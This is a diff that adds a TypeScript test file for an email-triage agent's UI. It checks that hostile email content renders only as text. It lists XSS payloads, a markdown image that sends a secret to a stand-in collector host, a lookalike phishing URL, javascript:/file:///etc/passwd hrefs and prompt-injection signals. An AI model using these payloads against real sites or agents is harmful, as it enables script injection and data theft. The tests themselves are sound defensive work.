@@ -1,0 +1,107 @@
+import type { Suggestion } from '@pm-agent/shared';
+import { h, toSafeHref, type VNode } from '../src/render/h';
+import { reveal } from '../src/render/text';
+import { view, type ViewContext } from '../src/render/view';
+import { INITIAL, next, type PaneState } from '../src/state';
+import { EMAIL, suggestion, triage } from './support/fixtures';
+import { elements, mountFake, texts } from './support/fake-dom';
+
+/** Content that must only ever be text. */
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '"><svg onload=alert(1)>',
+  "javascript:alert('x')",
+  '![x](https://img.collector.example/p.png?d=SECRET)',
+  '{{constructor.constructor("alert(1)")()}}',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+];
+
+const noop = () => undefined;
+const ctx: ViewContext = {
+  autoTriage: false,
+  jiraBrowseUrl: 'https://site.atlassian.net/browse',
+  actions: { triage: noop, setAutoTriage: noop, approve: noop, startEdit: noop, startReject: noop, cancel: noop, draft: noop, saveEdit: noop, confirmReject: noop, stop: noop, reply: noop },
+};
+
+function hostileResult(payload: string): PaneState {
+  const email = {
+    ...EMAIL,
+    subject: payload,
+    from: { name: payload, address: 'mallory@contractor.example' },
+    to: [{ name: payload, address: 'priya@example.com' }],
+    cc: [{ name: payload, address: 'sam@example.com' }],
+    attachments: [{ name: payload, contentType: 'text/html', size: 1 }],
+  };
+  const s: Suggestion[] = [
+    suggestion('email_external', { to: ['mallory@contractor.example'], subject: `Re: ${payload}`, body: payload }, { rationale: payload }),
+    suggestion('jira_comment', { issueKey: 'ABC-123', body: payload }, { state: 'executed', result: { ok: true, summary: payload, link: 'javascript:alert(1)', at: '2026-11-18T09:00:00.000Z' } }),
+  ];
+  const t = triage({
+    summary: payload,
+    signals: [{ kind: 'instruction_override', text: payload, where: 'body', explanation: payload }],
+    links: [
+      { text: payload, href: 'javascript:alert(document.domain)', host: 'javascript' },
+      { text: payload, href: 'https://login.example.com.evil.example/reset', host: 'login.example.com.evil.example' },
+    ],
+    notices: [payload],
+    suggestions: s,
+  });
+  const triaging = next(next(INITIAL, { type: 'item', email, notes: [] }), { type: 'triage' });
+  return next(triaging, { type: 'triaged', triage: t, cached: false, viewer: null });
+}
+
+function walk(node: VNode, visit: (n: VNode) => void): void {
+  visit(node);
+  for (const c of node.children) if (typeof c !== 'string') walk(c, visit);
+}
+
+describe('rendering untrusted text', () => {
+  test.each(HOSTILE)('%s reaches the tree only as text, never as an attribute, tag or href', (payload) => {
+    const tree = view(hostileResult(payload), ctx);
+    const textChildren: string[] = [];
+    walk(tree, (n) => {
+      for (const c of n.children) if (typeof c === 'string') textChildren.push(c);
+      // A text box's value is a property, set as text: the one place a payload may be.
+      for (const [k, v] of Object.entries(n.attrs)) if (k !== 'value') expect(String(v)).not.toContain(payload);
+      if (n.attrs.href !== undefined) expect(n.attrs.href).toMatch(/^https?:\/\//);
+    });
+    expect(textChildren.filter((t) => t.includes(reveal(payload))).length).toBeGreaterThanOrEqual(10);
+  });
+
+  test('links from content: a javascript: URL is never a link; an http(s) one is a separate "Open link (host)" with the full host', () => {
+    const { root } = mountFake(view(hostileResult('x'), ctx));
+    const anchors = elements(root).filter((e) => e.tagName === 'a');
+    expect(anchors.map((a) => [a.textContent, a.getAttribute('href'), a.getAttribute('rel'), a.getAttribute('target')])).toEqual([
+      ['ABC-123', 'https://site.atlassian.net/browse/ABC-123', 'noopener noreferrer', '_blank'],
+      ['Open link (login.example.com.evil.example)', 'https://login.example.com.evil.example/reset', 'noopener noreferrer', '_blank'],
+    ]);
+    expect(texts(root).join('\n')).toContain('Not a web link: it cannot be opened from here.');
+  });
+
+  test('mount builds elements and text nodes only; HTML-parsing APIs would throw', () => {
+    const payload = '<img src=x onerror=alert(1)>';
+    const { root, created } = mountFake(view(hostileResult(payload), ctx));
+    const tags = new Set(created.map((e) => e.tagName));
+    expect([...tags].filter((t) => ['img', 'script', 'iframe', 'svg', 'object', 'embed', 'style', 'link'].includes(t))).toEqual([]);
+    for (const e of created) for (const name of e.attributes.keys()) expect(name).not.toMatch(/^on/i);
+    expect(texts(root)).toContain(payload);
+  });
+
+  test('invisible and direction-changing characters are shown as markers, not obeyed', () => {
+    expect(reveal('invoice\u202Efdp.exe')).toBe('invoice[U+202E]fdp.exe');
+    expect(reveal('ig\u200Bnore \u{E0041}')).toBe('ig[U+200B]nore [U+E0041]');
+  });
+
+  test('toSafeHref accepts only http(s)', () => {
+    expect(toSafeHref('https://a.example/x')).toBe('https://a.example/x');
+    for (const bad of ['javascript:alert(1)', 'data:text/html,<script>x</script>', 'vbscript:x', '//evil.example', 'file:///etc/passwd', 'not a url']) expect(toSafeHref(bad)).toBeUndefined();
+  });
+
+  test('the click handler fires on the element it belongs to', () => {
+    let clicked = 0;
+    const { root } = mountFake(h('button', { type: 'button', on: { click: () => clicked++ } }, 'Go'));
+    root.fire('click');
+    expect(clicked).toBe(1);
+  });
+});
